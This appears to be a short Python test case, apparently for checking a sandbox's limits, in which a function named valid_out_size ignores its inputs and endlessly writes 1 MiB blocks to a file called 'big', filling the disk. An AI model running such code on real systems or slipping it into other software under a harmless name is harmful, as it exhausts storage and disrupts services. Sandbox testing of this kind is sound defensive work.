# Writes one file without end.
# fence: room
# %% answer valid_out_size
def valid_out_size(n, k):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
    return 0
